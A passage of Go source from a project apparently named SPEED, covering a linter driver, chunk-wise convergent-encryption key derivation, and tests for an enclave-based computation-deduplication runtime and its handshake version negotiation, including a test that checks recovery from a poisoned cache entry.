	if a.bytes < 0 {
		a.bytes = 0
	}
}

// bytesOf reports an application's resident ciphertext bytes.
func (q *quotas) bytesOf(id enclave.Measurement) int64 {
	q.mu.Lock()
	defer q.mu.Unlock()
	return q.app(id).bytes
}
