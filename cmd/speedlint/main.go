// Command speedlint runs SPEED's static-analysis suite (package
// internal/lint) over the module.
//
// Usage:
//
//	speedlint [-json] [-list] [patterns...]
//
// Patterns select packages: "./..." (the default) selects the whole
// module, "./internal/wire" a single directory, "./internal/..." a
// subtree; module import paths work the same way. Findings print as
//
//	file:line: [analyzer] message
//
// or, with -json, as one JSON object per line. Exit status is 0 when
// clean, 1 when there are findings, and 2 on a driver error.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"speed/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("speedlint", flag.ContinueOnError)
	fs.SetOutput(stderr)
	jsonOut := fs.Bool("json", false, "emit one JSON object per finding")
	list := fs.Bool("list", false, "list the analyzers and exit")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *list {
		for _, a := range lint.Analyzers() {
			fmt.Fprintf(stdout, "%-16s %s\n", a.Name, a.Doc)
		}
		return 0
	}

	loader, err := lint.NewLoader(".")
	if err != nil {
		fmt.Fprintln(stderr, "speedlint:", err)
		return 2
	}
	pkgs, err := loader.LoadModule()
	if err != nil {
		fmt.Fprintln(stderr, "speedlint:", err)
		return 2
	}

	patterns := fs.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	selected, err := selectPackages(loader, pkgs, patterns)
	if err != nil {
		fmt.Fprintln(stderr, "speedlint:", err)
		return 2
	}

	diags := lint.Run(selected, nil, nil)
	for _, d := range diags {
		if *jsonOut {
			fmt.Fprintln(stdout, d.JSON())
		} else {
			fmt.Fprintln(stdout, d.String())
		}
	}
	if len(diags) > 0 {
		return 1
	}
	return 0
}

// selectPackages filters the loaded packages by go-style patterns,
// matched against both import paths and module-relative directories.
func selectPackages(loader *lint.Loader, pkgs []*lint.Package, patterns []string) ([]*lint.Package, error) {
	var out []*lint.Package
	seen := make(map[string]bool)
	for _, pat := range patterns {
		matched := false
		for _, pkg := range pkgs {
			if matchesPattern(loader, pkg, pat) {
				matched = true
				if !seen[pkg.Path] {
					seen[pkg.Path] = true
					out = append(out, pkg)
				}
			}
		}
		if !matched {
			return nil, fmt.Errorf("pattern %q matched no packages", pat)
		}
	}
	return out, nil
}

// matchesPattern reports whether pkg matches one pattern. Candidates
// are the import path and the module-relative directory ("." for the
// root); "..." suffixes match subtrees.
func matchesPattern(loader *lint.Loader, pkg *lint.Package, pat string) bool {
	rel, err := filepath.Rel(loader.ModuleRoot, pkg.Dir)
	if err != nil {
		rel = pkg.Dir
	}
	rel = filepath.ToSlash(rel)
	candidates := []string{pkg.Path, rel, "./" + rel}

	pat = strings.TrimSuffix(pat, "/")
	if prefix, ok := strings.CutSuffix(pat, "/..."); ok {
		if prefix == "." || prefix == "" {
			return true
		}
		for _, c := range candidates {
			if c == prefix || strings.HasPrefix(c, prefix+"/") {
				return true
			}
		}
		return false
	}
	for _, c := range candidates {
		if c == pat {
			return true
		}
	}
	return false
}
