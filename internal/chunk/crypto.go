package chunk

import (
	"crypto/sha256"

	"speed/internal/mle"
)

// Key and tag derivations for chunk-wise convergence.
//
// A chunk's RCE "input" cannot be the input of the call that produced
// it — a second application reusing the chunk via a manifest has the
// chunk's hash, not the producing call's input. Instead each chunk is
// treated as the result of the synthetic computation
//
//	chunkFunc(base)(hash) = the chunk content whose Hash() is hash
//
// so its tag is mle.ComputeTag(ContentFuncID(base), hash[:]) and its
// RCE encryption uses (ContentFuncID(base), hash[:]) as the (func,
// input) pair: tag = H(func, chunk-identity) exactly as the paper
// derives whole-result tags, with the full per-chunk random challenge
// and wrapped key. Convergence holds chunk-wise — any application that
// derives the same base FuncID and produces (or learns, via an
// authenticated manifest) the same chunk hash derives the same tag and
// can unwrap the same sealed chunk — while an application that merely
// observes tags in the store still cannot forge queries, because the
// secondary key binds the hash AND the derived function identity
// (Section III-D's argument, unchanged).
//
// The manifest itself is sealed under a second derived identity,
// ManifestFuncID(base), with the call's real input. Both derivations
// are domain-separated from each other and from every base FuncID, so
// the three dictionaries (whole results, manifests at primary tags,
// chunks) can never collide, and a pre-chunking runtime that decrypts a
// manifest under the base identity gets a clean ErrAuthFailed.

// Hash computes a chunk's domain-separated content hash, the identity
// under which the chunk is tagged, encrypted and verified.
func Hash(chunk []byte) [32]byte {
	d := sha256.New()
	d.Write(hashDomain)
	d.Write(chunk)
	var out [32]byte
	d.Sum(out[:0])
	return out
}

var (
	hashDomain         = []byte("speed/chunk/v1\x00")
	contentFuncDomain  = []byte("speed/chunk/func/v1\x00")
	manifestFuncDomain = []byte("speed/chunk/manifest/v1\x00")
)

func deriveID(domain []byte, base mle.FuncID) mle.FuncID {
	d := sha256.New()
	d.Write(domain)
	d.Write(base[:])
	var out mle.FuncID
	d.Sum(out[:0])
	return out
}

// ContentFuncID derives the synthetic function identity under which a
// base function's chunks are tagged and encrypted.
func ContentFuncID(base mle.FuncID) mle.FuncID {
	return deriveID(contentFuncDomain, base)
}

// ManifestFuncID derives the function identity under which a chunked
// call's manifest is sealed at the call's primary tag.
func ManifestFuncID(base mle.FuncID) mle.FuncID {
	return deriveID(manifestFuncDomain, base)
}

// Tag derives the storage tag of the chunk with the given content hash.
func Tag(contentID mle.FuncID, hash [32]byte) mle.Tag {
	return mle.ComputeTag(contentID, hash[:])
}
