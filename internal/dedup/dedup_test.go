package dedup

import (
	"bytes"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
)

// testEnv wires an application runtime to a local store, the paper's
// default same-machine deployment.
type testEnv struct {
	platform *enclave.Platform
	appEnc   *enclave.Enclave
	storeEnc *enclave.Enclave
	store    *store.Store
	runtime  *Runtime
}

func newTestEnv(t *testing.T, mutate func(*Config)) *testEnv {
	t.Helper()
	p := enclave.NewPlatform(enclave.Config{})
	appEnc, err := p.Create("app", []byte("app code"))
	if err != nil {
		t.Fatalf("create app enclave: %v", err)
	}
	storeEnc, err := p.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("create store enclave: %v", err)
	}
	st, err := store.New(store.Config{Enclave: storeEnc})
	if err != nil {
		t.Fatalf("store.New: %v", err)
	}
	cfg := Config{
		Enclave: appEnc,
		Client:  NewLocalClient(st, appEnc.Measurement()),
		Logf:    func(string, ...any) {},
	}
	if mutate != nil {
		mutate(&cfg)
	}
	rt, err := NewRuntime(cfg)
	if err != nil {
		t.Fatalf("NewRuntime: %v", err)
	}
	t.Cleanup(func() { _ = rt.Close() })
	rt.Registry().RegisterLibrary("zlib", "1.2.11", []byte("zlib code"))
	return &testEnv{platform: p, appEnc: appEnc, storeEnc: storeEnc, store: st, runtime: rt}
}

var deflateDesc = FuncDesc{Library: "zlib", Version: "1.2.11", Signature: "int deflate(...)"}

func (env *testEnv) funcID(t *testing.T) mle.FuncID {
	t.Helper()
	id, err := env.runtime.Resolve(deflateDesc)
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	return id
}

func TestRegistryResolveDeterministic(t *testing.T) {
	r := NewRegistry()
	r.RegisterLibrary("zlib", "1.2.11", []byte("code"))
	id1, err := r.Resolve(deflateDesc)
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	id2, err := r.Resolve(deflateDesc)
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	if id1 != id2 {
		t.Error("Resolve is not deterministic")
	}
}

func TestRegistryResolveSensitivity(t *testing.T) {
	r := NewRegistry()
	r.RegisterLibrary("zlib", "1.2.11", []byte("code v1"))
	r.RegisterLibrary("zlib", "1.2.12", []byte("code v1"))
	base, err := r.Resolve(deflateDesc)
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}

	// Different version -> different id even with identical code bytes.
	otherVersion, err := r.Resolve(FuncDesc{Library: "zlib", Version: "1.2.12", Signature: deflateDesc.Signature})
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	if otherVersion == base {
		t.Error("different version produced same FuncID")
	}

	// Different signature -> different id.
	otherSig, err := r.Resolve(FuncDesc{Library: "zlib", Version: "1.2.11", Signature: "int inflate(...)"})
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	if otherSig == base {
		t.Error("different signature produced same FuncID")
	}

	// Different code for the same (library, version) -> different id.
	// This is what defeats "same description, tampered library".
	r2 := NewRegistry()
	r2.RegisterLibrary("zlib", "1.2.11", []byte("TAMPERED code"))
	tampered, err := r2.Resolve(deflateDesc)
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	if tampered == base {
		t.Error("tampered library code produced same FuncID")
	}
}

func TestRegistryUnknownLibrary(t *testing.T) {
	r := NewRegistry()
	if _, err := r.Resolve(deflateDesc); !errors.Is(err, ErrUnknownLibrary) {
		t.Errorf("Resolve = %v, want ErrUnknownLibrary", err)
	}
}

func TestRegistryIncompleteDesc(t *testing.T) {
	r := NewRegistry()
	r.RegisterLibrary("zlib", "1.2.11", []byte("code"))
	for _, desc := range []FuncDesc{
		{},
		{Library: "zlib"},
		{Library: "zlib", Version: "1.2.11"},
		{Version: "1.2.11", Signature: "f()"},
	} {
		if _, err := r.Resolve(desc); err == nil {
			t.Errorf("Resolve(%v) accepted incomplete description", desc)
		}
	}
}

func TestExecuteMissThenHit(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	input := []byte("input bytes")
	var calls atomic.Int64
	slowSquare := func(in []byte) ([]byte, error) {
		calls.Add(1)
		return append([]byte("computed:"), in...), nil
	}

	res1, out1, err := env.runtime.Execute(id, input, slowSquare)
	if err != nil {
		t.Fatalf("Execute 1: %v", err)
	}
	if out1 != OutcomeComputed {
		t.Errorf("outcome 1 = %v, want computed", out1)
	}

	res2, out2, err := env.runtime.Execute(id, input, slowSquare)
	if err != nil {
		t.Fatalf("Execute 2: %v", err)
	}
	if out2 != OutcomeReused {
		t.Errorf("outcome 2 = %v, want reused", out2)
	}
	if !bytes.Equal(res1, res2) {
		t.Errorf("reused result %q != computed result %q", res2, res1)
	}
	if got := calls.Load(); got != 1 {
		t.Errorf("function executed %d times, want 1 (deduplicated)", got)
	}

	st := env.runtime.Stats()
	if st.Calls != 2 || st.Computed != 1 || st.Reused != 1 {
		t.Errorf("Stats = %+v, want 2 calls, 1 computed, 1 reused", st)
	}
	if st.BytesReused != int64(len(res1)) {
		t.Errorf("BytesReused = %d, want %d", st.BytesReused, len(res1))
	}
}

func TestExecuteDifferentInputsAreDistinct(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	fn := func(in []byte) ([]byte, error) { return append([]byte("r:"), in...), nil }

	r1, _, err := env.runtime.Execute(id, []byte("a"), fn)
	if err != nil {
		t.Fatalf("Execute a: %v", err)
	}
	r2, out, err := env.runtime.Execute(id, []byte("b"), fn)
	if err != nil {
		t.Fatalf("Execute b: %v", err)
	}
	if out != OutcomeComputed {
		t.Errorf("different input outcome = %v, want computed", out)
	}
	if bytes.Equal(r1, r2) {
		t.Error("different inputs produced identical results")
	}
}

func TestExecuteComputeErrorPropagates(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	wantErr := errors.New("deterministic failure")
	_, _, err := env.runtime.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
		return nil, wantErr
	})
	if !errors.Is(err, wantErr) {
		t.Errorf("Execute = %v, want %v", err, wantErr)
	}
	// Nothing must have been stored for the failed computation.
	if env.store.Len() != 0 {
		t.Errorf("store has %d entries after failed compute, want 0", env.store.Len())
	}
}

// Cross-application deduplication (Section III-C): app B, a different
// enclave with different code, reuses app A's stored result because it
// owns the same trusted library and input. No key is shared.
func TestExecuteCrossApplicationReuse(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	input := []byte("shared input")
	fn := func(in []byte) ([]byte, error) { return []byte("shared result"), nil }

	if _, _, err := env.runtime.Execute(id, input, fn); err != nil {
		t.Fatalf("app A Execute: %v", err)
	}

	appB, err := env.platform.Create("appB", []byte("app B code"))
	if err != nil {
		t.Fatalf("create app B: %v", err)
	}
	rtB, err := NewRuntime(Config{
		Enclave: appB,
		Client:  NewLocalClient(env.store, appB.Measurement()),
		Logf:    func(string, ...any) {},
	})
	if err != nil {
		t.Fatalf("NewRuntime B: %v", err)
	}
	defer rtB.Close()
	rtB.Registry().RegisterLibrary("zlib", "1.2.11", []byte("zlib code"))
	idB, err := rtB.Resolve(deflateDesc)
	if err != nil {
		t.Fatalf("Resolve B: %v", err)
	}
	if idB != id {
		t.Fatal("same library+desc resolved to different FuncIDs across apps")
	}

	res, out, err := rtB.Execute(idB, input, func([]byte) ([]byte, error) {
		t.Error("app B recomputed a result that should have been reused")
		return []byte("should not run"), nil
	})
	if err != nil {
		t.Fatalf("app B Execute: %v", err)
	}
	if out != OutcomeReused {
		t.Errorf("app B outcome = %v, want reused", out)
	}
	if string(res) != "shared result" {
		t.Errorf("app B result = %q, want %q", res, "shared result")
	}
}

// An application with a DIFFERENT library version must not be able to
// reuse (or even find) the stored result: its FuncID differs, so both
// tag and key derivation diverge.
func TestExecuteDifferentLibraryVersionIsolated(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	input := []byte("input")
	if _, _, err := env.runtime.Execute(id, input, func([]byte) ([]byte, error) {
		return []byte("v11 result"), nil
	}); err != nil {
		t.Fatalf("Execute: %v", err)
	}

	env.runtime.Registry().RegisterLibrary("zlib", "9.9.9", []byte("other zlib code"))
	otherID, err := env.runtime.Resolve(FuncDesc{Library: "zlib", Version: "9.9.9", Signature: deflateDesc.Signature})
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	_, out, err := env.runtime.Execute(otherID, input, func([]byte) ([]byte, error) {
		return []byte("v99 result"), nil
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if out != OutcomeComputed {
		t.Errorf("outcome = %v, want computed (no cross-version reuse)", out)
	}
}

// Cache poisoning defence: if the adversary corrupts the stored blob,
// the verification protocol returns ⊥ and the runtime transparently
// recomputes (and the caller still gets the right answer).
func TestExecuteRecoversFromPoisonedEntry(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	input := []byte("input")
	want := []byte("correct result")
	if _, _, err := env.runtime.Execute(id, input, func([]byte) ([]byte, error) {
		return want, nil
	}); err != nil {
		t.Fatalf("Execute: %v", err)
	}

	// Poison: replace the stored entry with a validly-formatted triple
	// produced for a DIFFERENT computation, spliced onto our tag. The
	// adversary controls the store machine's software stack, so model
	// it by installing a fresh store entry under our tag.
	scheme := &mle.RCE{}
	var evilID mle.FuncID
	evilID[0] = 0xEE
	evilSealed, err := scheme.Encrypt(evilID, []byte("evil input"), []byte("evil result"))
	if err != nil {
		t.Fatalf("evil Encrypt: %v", err)
	}
	tag := mle.ComputeTag(id, input)
	// Rebuild the store with the poisoned entry (first-wins semantics
	// prevent overwriting in place).
	poisonedStore, err := store.New(store.Config{Enclave: env.storeEnc})
	if err != nil {
		t.Fatalf("store.New: %v", err)
	}
	if _, err := poisonedStore.Put(env.appEnc.Measurement(), tag, evilSealed); err != nil {
		t.Fatalf("poison Put: %v", err)
	}
	rt2, err := NewRuntime(Config{
		Enclave: env.appEnc,
		Client:  NewLocalClient(poisonedStore, env.appEnc.Measurement()),
		Logf:    func(string, ...any) {},
	})
	if err != nil {
		t.Fatalf("NewRuntime: %v", err)
	}
	defer rt2.Close()

	res, out, err := rt2.Execute(id, input, func([]byte) ([]byte, error) {
		return want, nil
	})
	if err != nil {
		t.Fatalf("Execute over poisoned store: %v", err)
	}
	if out != OutcomeRecomputed {
		t.Errorf("outcome = %v, want recomputed", out)
	}
	if !bytes.Equal(res, want) {
		t.Errorf("result = %q, want %q", res, want)
	}
	if got := rt2.Stats().VerifyFailures; got != 1 {
		t.Errorf("VerifyFailures = %d, want 1", got)
	}

	// Self-healing: the recomputation REPLACED the poisoned entry, so
	// the next call reuses the valid result instead of recomputing
	// forever.
	res, out, err = rt2.Execute(id, input, func([]byte) ([]byte, error) {
		t.Error("recomputed again after the replacement upload")
		return nil, nil
	})
	if err != nil {
		t.Fatalf("Execute after replacement: %v", err)
	}
	if out != OutcomeReused {
		t.Errorf("post-replacement outcome = %v, want reused", out)
	}
	if !bytes.Equal(res, want) {
		t.Errorf("post-replacement result = %q, want %q", res, want)
	}
}

func TestExecuteAsyncPut(t *testing.T) {
	env := newTestEnv(t, func(c *Config) { c.AsyncPut = true })
	id := env.funcID(t)
	input := []byte("async input")

	_, out, err := env.runtime.Execute(id, input, func([]byte) ([]byte, error) {
		return []byte("result"), nil
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if out != OutcomeComputed {
		t.Fatalf("outcome = %v, want computed", out)
	}

	// The upload happens in the background; wait for it.
	deadline := time.After(2 * time.Second)
	for env.store.Len() == 0 {
		select {
		case <-deadline:
			t.Fatal("async put never reached the store")
		default:
			time.Sleep(time.Millisecond)
		}
	}

	_, out, err = env.runtime.Execute(id, input, func([]byte) ([]byte, error) {
		t.Error("recomputed despite stored result")
		return nil, nil
	})
	if err != nil {
		t.Fatalf("Execute 2: %v", err)
	}
	if out != OutcomeReused {
		t.Errorf("outcome 2 = %v, want reused", out)
	}
}

func TestCloseDrainsAsyncPuts(t *testing.T) {
	env := newTestEnv(t, func(c *Config) { c.AsyncPut = true })
	id := env.funcID(t)
	const n = 10
	for i := 0; i < n; i++ {
		if _, _, err := env.runtime.Execute(id, []byte(fmt.Sprintf("in-%d", i)), func(in []byte) ([]byte, error) {
			return append([]byte("r:"), in...), nil
		}); err != nil {
			t.Fatalf("Execute %d: %v", i, err)
		}
	}
	if err := env.runtime.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if got := env.store.Len(); got != n {
		t.Errorf("store has %d entries after Close, want %d (drained)", got, n)
	}
	if _, _, err := env.runtime.Execute(id, []byte("x"), nil); err == nil {
		t.Error("Execute after Close succeeded")
	}
}

func TestExecuteToleratesPutRejection(t *testing.T) {
	env := newTestEnv(t, nil)
	// Swap in a store with a tiny quota so PUTs are rejected.
	smallStore, err := store.New(store.Config{
		Enclave: env.storeEnc,
		Quota:   store.QuotaConfig{MaxBytesPerApp: 1},
	})
	if err != nil {
		t.Fatalf("store.New: %v", err)
	}
	rt, err := NewRuntime(Config{
		Enclave: env.appEnc,
		Client:  NewLocalClient(smallStore, env.appEnc.Measurement()),
		Logf:    func(string, ...any) {},
	})
	if err != nil {
		t.Fatalf("NewRuntime: %v", err)
	}
	defer rt.Close()
	rt.Registry().RegisterLibrary("zlib", "1.2.11", []byte("zlib code"))
	id, err := rt.Resolve(deflateDesc)
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}

	res, out, err := rt.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
		return []byte("the result"), nil
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if out != OutcomeComputed || string(res) != "the result" {
		t.Errorf("Execute = (%q, %v), want computed result despite rejected put", res, out)
	}
	if got := rt.Stats().PutErrors; got != 1 {
		t.Errorf("PutErrors = %d, want 1", got)
	}
}

func TestExecuteConcurrent(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	var computes atomic.Int64
	fn := func(in []byte) ([]byte, error) {
		computes.Add(1)
		return append([]byte("r:"), in...), nil
	}
	var wg sync.WaitGroup
	const workers = 8
	const inputs = 20
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < inputs; i++ {
				in := []byte(fmt.Sprintf("input-%d", i))
				res, _, err := env.runtime.Execute(id, in, fn)
				if err != nil {
					t.Errorf("Execute: %v", err)
					return
				}
				if want := "r:" + string(in); string(res) != want {
					t.Errorf("result = %q, want %q", res, want)
					return
				}
			}
		}()
	}
	wg.Wait()
	// Every worker may race on first execution, but the store
	// deduplicates: at most workers*inputs computes, at least inputs.
	got := computes.Load()
	if got < inputs || got > workers*inputs {
		t.Errorf("computes = %d, want within [%d, %d]", got, inputs, workers*inputs)
	}
	if env.store.Len() != inputs {
		t.Errorf("store entries = %d, want %d", env.store.Len(), inputs)
	}
}

// In-flight coalescing: concurrent identical calls share one
// computation instead of racing it to the store.
func TestExecuteCoalescesConcurrentCalls(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)

	var computes atomic.Int64
	started := make(chan struct{})
	release := make(chan struct{})
	slow := func(in []byte) ([]byte, error) {
		computes.Add(1)
		close(started)
		<-release
		return []byte("shared result"), nil
	}

	const waiters = 6
	var wg sync.WaitGroup
	outcomes := make([]Outcome, waiters)
	results := make([][]byte, waiters)
	errs := make([]error, waiters)

	// Leader.
	wg.Add(1)
	go func() {
		defer wg.Done()
		results[0], outcomes[0], errs[0] = env.runtime.Execute(id, []byte("in"), slow)
	}()
	<-started
	// Waiters join while the leader is mid-computation.
	for w := 1; w < waiters; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			results[w], outcomes[w], errs[w] = env.runtime.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
				t.Error("waiter executed the function")
				return nil, nil
			})
		}(w)
	}
	// Give the waiters a moment to join the flight, then release.
	time.Sleep(20 * time.Millisecond)
	close(release)
	wg.Wait()

	for w := 0; w < waiters; w++ {
		if errs[w] != nil {
			t.Fatalf("call %d: %v", w, errs[w])
		}
		if string(results[w]) != "shared result" {
			t.Errorf("call %d result = %q", w, results[w])
		}
	}
	if got := computes.Load(); got != 1 {
		t.Errorf("function executed %d times, want 1", got)
	}
	coalesced := 0
	for _, o := range outcomes {
		if o == OutcomeCoalesced {
			coalesced++
		}
	}
	if coalesced != waiters-1 {
		t.Errorf("coalesced outcomes = %d, want %d (outcomes %v)", coalesced, waiters-1, outcomes)
	}
	if got := env.runtime.Stats().Coalesced; got != int64(waiters-1) {
		t.Errorf("Stats.Coalesced = %d, want %d", got, waiters-1)
	}
	// Only one store entry and one put.
	if got := env.store.Stats().Puts; got != 1 {
		t.Errorf("store Puts = %d, want 1", got)
	}
}

// A leader's failure propagates to the waiters rather than handing
// them a stale result.
func TestExecuteCoalescedErrorPropagates(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	wantErr := errors.New("leader failure")
	started := make(chan struct{})
	release := make(chan struct{})

	done := make(chan error, 2)
	go func() {
		_, _, err := env.runtime.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
			close(started)
			<-release
			return nil, wantErr
		})
		done <- err
	}()
	<-started
	go func() {
		_, _, err := env.runtime.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
			return nil, wantErr
		})
		done <- err
	}()
	time.Sleep(20 * time.Millisecond)
	close(release)
	for i := 0; i < 2; i++ {
		if err := <-done; !errors.Is(err, wantErr) {
			t.Errorf("call %d error = %v, want %v", i, err, wantErr)
		}
	}
	// The flight is cleaned up: a later call works normally.
	res, outcome, err := env.runtime.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
		return []byte("ok"), nil
	})
	if err != nil || outcome != OutcomeComputed || string(res) != "ok" {
		t.Errorf("post-failure Execute = (%q, %v, %v)", res, outcome, err)
	}
}

func TestExecuteNoCoalesceDisables(t *testing.T) {
	env := newTestEnv(t, func(c *Config) { c.NoCoalesce = true })
	id := env.funcID(t)
	var computes atomic.Int64
	started := make(chan struct{}, 2)
	release := make(chan struct{})
	slow := func([]byte) ([]byte, error) {
		computes.Add(1)
		started <- struct{}{}
		<-release
		return []byte("r"), nil
	}
	var wg sync.WaitGroup
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if _, _, err := env.runtime.Execute(id, []byte("in"), slow); err != nil {
				t.Errorf("Execute: %v", err)
			}
		}()
	}
	<-started
	<-started // both entered the computation: no coalescing
	close(release)
	wg.Wait()
	if got := computes.Load(); got != 2 {
		t.Errorf("computes = %d, want 2 with NoCoalesce", got)
	}
}

func TestExecuteUsesECallsAndOCalls(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	before := env.appEnc.Metrics()
	if _, _, err := env.runtime.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
		return []byte("r"), nil
	}); err != nil {
		t.Fatalf("Execute: %v", err)
	}
	after := env.appEnc.Metrics()
	// Initial computation: 1 ECALL (enter app enclave), 2 OCALLs (GET,
	// PUT).
	if after.ECalls-before.ECalls != 1 {
		t.Errorf("ECalls delta = %d, want 1", after.ECalls-before.ECalls)
	}
	if after.OCalls-before.OCalls != 2 {
		t.Errorf("OCalls delta = %d, want 2", after.OCalls-before.OCalls)
	}

	before = after
	if _, _, err := env.runtime.Execute(id, []byte("in"), func([]byte) ([]byte, error) {
		return []byte("r"), nil
	}); err != nil {
		t.Fatalf("Execute: %v", err)
	}
	after = env.appEnc.Metrics()
	// Subsequent computation: 1 ECALL, 1 OCALL (GET only).
	if after.OCalls-before.OCalls != 1 {
		t.Errorf("hit OCalls delta = %d, want 1", after.OCalls-before.OCalls)
	}
}

func TestNewRuntimeValidation(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	e, _ := p.Create("app", []byte("code"))
	if _, err := NewRuntime(Config{Client: &LocalClient{}}); err == nil {
		t.Error("NewRuntime accepted nil enclave")
	}
	if _, err := NewRuntime(Config{Enclave: e}); err == nil {
		t.Error("NewRuntime accepted nil client")
	}
}

func TestRuntimeCloseIdempotent(t *testing.T) {
	env := newTestEnv(t, nil)
	if err := env.runtime.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := env.runtime.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
}

func TestOutcomeString(t *testing.T) {
	tests := []struct {
		o    Outcome
		want string
	}{
		{OutcomeComputed, "computed"},
		{OutcomeReused, "reused"},
		{OutcomeRecomputed, "recomputed"},
		{Outcome(42), "Outcome(42)"},
	}
	for _, tt := range tests {
		if got := tt.o.String(); got != tt.want {
			t.Errorf("String(%d) = %q, want %q", int(tt.o), got, tt.want)
		}
	}
}
