package wire

import (
	"bytes"
	"crypto/ecdh"
	"crypto/rand"
	"net"
	"testing"

	"speed/internal/enclave"
)

// TestNegotiate pins the version-selection rule: the lower of the two
// offers wins, a zero byte (a peer predating negotiation) reads as v1,
// and a future version the build has never heard of degrades to the
// newest version it speaks.
func TestNegotiate(t *testing.T) {
	for _, tc := range []struct {
		ours int
		peer byte
		want int
	}{
		{ProtocolV2, 2, ProtocolV2},
		{ProtocolV2, 1, ProtocolV1},
		{ProtocolV1, 2, ProtocolV1},
		{ProtocolV1, 1, ProtocolV1},
		{ProtocolV2, 0, ProtocolV1},   // legacy peer
		{ProtocolV2, 9, ProtocolV2},   // future peer
		{ProtocolV2, 255, ProtocolV2}, // far-future peer
	} {
		var peerData [64]byte
		peerData[32] = tc.peer
		if got := negotiate(tc.ours, peerData); got != tc.want {
			t.Errorf("negotiate(%d, peer=%d) = %d, want %d", tc.ours, tc.peer, got, tc.want)
		}
	}
}

// TestFutureVersionSettlesOnV2 hand-rolls a client hello advertising an
// unknown future protocol version (9) against a real ServerHandshake
// (ClientHandshakeVersion would clamp the offer, so the client side is
// built by hand with a real key exchange). Both ends must settle on
// ProtocolV2 — the newest version this build speaks — and traffic must
// flow under the negotiated keys.
func TestFutureVersionSettlesOnV2(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	client, err := p.Create("client", []byte("client-code"))
	if err != nil {
		t.Fatal(err)
	}
	server, err := p.Create("server", []byte("server-code"))
	if err != nil {
		t.Fatal(err)
	}

	cc, sc := net.Pipe()
	defer cc.Close()
	defer sc.Close()

	type result struct {
		ch  *Channel
		err error
	}
	srv := make(chan result, 1)
	go func() {
		ch, err := ServerHandshake(sc, server, nil)
		srv <- result{ch, err}
	}()

	priv, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	data := helloData(priv, ProtocolV2, DefaultFeatures)
	data[32] = 9 // a future protocol this build has never heard of
	clientHello, err := makeHello(client, server.Measurement(), data)
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteFrame(cc, clientHello.marshal()); err != nil {
		t.Fatal(err)
	}

	frame, err := ReadFrame(cc)
	if err != nil {
		t.Fatal(err)
	}
	serverHello, err := parseHello(frame)
	if err != nil {
		t.Fatal(err)
	}
	peerMeas, peerData, err := verifyHello(client, serverHello, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := int(peerData[32]); got != ProtocolV2 {
		t.Fatalf("server echoed version %d, want ProtocolV2 (%d)", got, ProtocolV2)
	}

	version := negotiate(9, peerData)
	clientCh, err := deriveChannel(cc, priv, peerMeas, peerData, true, version,
		negotiateFeatures(DefaultFeatures, peerData, version))
	if err != nil {
		t.Fatal(err)
	}
	if v := clientCh.Version(); v != ProtocolV2 {
		t.Fatalf("client settled on version %d, want %d", v, ProtocolV2)
	}

	sr := <-srv
	if sr.err != nil {
		t.Fatalf("ServerHandshake: %v", sr.err)
	}
	if v := sr.ch.Version(); v != ProtocolV2 {
		t.Fatalf("server settled on version %d, want %d", v, ProtocolV2)
	}

	// Traffic flows both ways under the negotiated keys.
	go func() { _ = clientCh.Send([]byte("ping")) }()
	got, err := sr.ch.Recv()
	if err != nil || !bytes.Equal(got, []byte("ping")) {
		t.Fatalf("server recv = %q, %v", got, err)
	}
	go func() { _ = sr.ch.Send([]byte("pong")) }()
	got, err = clientCh.Recv()
	if err != nil || !bytes.Equal(got, []byte("pong")) {
		t.Fatalf("client recv = %q, %v", got, err)
	}
}
