package mle

import (
